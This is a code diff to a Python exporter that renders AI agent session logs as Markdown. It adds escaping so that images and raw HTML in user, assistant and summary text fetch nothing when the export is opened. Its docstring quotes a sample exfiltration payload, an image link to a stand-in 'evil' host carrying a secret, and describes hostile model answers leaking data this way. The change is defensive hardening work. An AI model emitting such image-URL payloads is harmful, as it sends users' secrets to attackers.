@@ -36,6 +36,12 @@ from agent.text import escape_json_text, sanitize, sanitize_line
 # Characters that could start Markdown syntax inside a line of ordinary text.
 _INLINE_SPECIAL = re.compile(r"([\\`*_\[\]<>&|~#!])")
 _SURROGATE = re.compile(r"[\ud800-\udfff]")
+# In prose, what a Markdown viewer fetches by itself when the document is opened: an image
+# (`![`, inline or by reference) and raw HTML (`<img`, `<iframe`...; an autolink `<https:` too,
+# which would otherwise win over a code span). Escaped, they show as the text they are.
+_FETCHING = re.compile(r"!\[|<(?=[A-Za-z/!?])")
+# A fence's opening line (CommonMark: up to 3 spaces; a backtick fence's info has no backtick).
+_FENCE = re.compile(r" {0,3}(?P<run>`{3,}(?=[^`]*$)|~{3,})")
 
 
 def export_json(loaded: LoadedSession) -> str:
@@ -111,7 +117,11 @@ class _Renderer:
         recorded = Recorded.from_json(data)
         event = recorded.event
         if isinstance(event, UserEvent):
-            return [_heading(recorded, "User"), _quote(_text(event.content)), *_parts(event.parts)]
+            return [
+                _heading(recorded, "User"),
+                _quote(_inert(_text(event.content))),
+                *_parts(event.parts),
+            ]
         if isinstance(event, AssistantEvent):
             return self._assistant(recorded, event)
         if isinstance(event, ToolResultEvent):
@@ -153,7 +163,7 @@ class _Renderer:
         blocks = [_heading(recorded, "Assistant")]
         content = _text(event.content)
         if content.strip():
-            blocks.append(_quote(content))
+            blocks.append(_quote(_inert(content)))
         for call in event.tool_calls:
             self.tool_names[call.id] = call.name
             blocks.append(
@@ -223,7 +233,7 @@ def _compaction(event: CompactionEvent) -> list[str]:
         "## Compaction: session memory",
         f"{scope[0].upper()}{scope[1:]} (still shown above) were summarised into this "
         "session memory; from here on the model saw this summary instead of them.",
-        _quote(_text(event.summary)),
+        _quote(_inert(_text(event.summary))),
     ]
 
 
@@ -267,6 +277,50 @@ def _fence(text: str, info: str) -> str:
     ticks = "`" * max(3, _longest_run(text, "`") + 1)
     body = text if text.endswith("\n") or not text else text + "\n"
     return f"{ticks}{info}\n{body}{ticks}"
+
+
+def _inert(text: str) -> str:
+    """Prose (the person's, the model's) that still reads as Markdown but fetches nothing when
+    the export is viewed: a hostile answer's `![](https://evil/?d=SECRET)` or `<img src=...>`
+    would send what it names to the attacker the moment the file is opened. Code (fenced
+    blocks, code spans) is left as it is: nothing in it is rendered."""
+    lines = text.split("\n")
+    fence: tuple[str, int] | None = None  # the open fence's character and length
+    for index, line in enumerate(lines):
+        if fence is not None:
+            char, length = fence
+            if re.fullmatch(f" {{0,3}}{re.escape(char)}{{{length},}} *", line):
+                fence = None
+            continue
+        opening = _FENCE.match(line)
+        if opening is not None:
+            fence = (opening["run"][0], len(opening["run"]))
+            continue
+        lines[index] = _inert_line(line)
+    return "\n".join(lines)
+
+
+def _inert_line(line: str) -> str:
+    """One line outside fences: escaped but for its code spans (a backtick run closed by one of
+    the same length; a backslash before a backtick makes it text, as CommonMark reads it)."""
+    out: list[str] = []
+    position = 0
+    for run in re.finditer(r"`+", line):
+        if run.start() < position or _backslashed(line, run.start()):
+            continue
+        closing = re.compile(f"(?<!`){run.group()}(?!`)").search(line, run.end())
+        if closing is None:
+            continue
+        out.append(_FETCHING.sub(lambda m: "\\" + m.group(), line[position : run.start()]))
+        out.append(line[run.start() : closing.end()])
+        position = closing.end()
+    out.append(_FETCHING.sub(lambda m: "\\" + m.group(), line[position:]))
+    return "".join(out)
+
+
+def _backslashed(line: str, index: int) -> bool:
+    count = len(line[:index]) - len(line[:index].rstrip("\\"))
+    return count % 2 == 1
 
 
 def _quote(text: str) -> str:
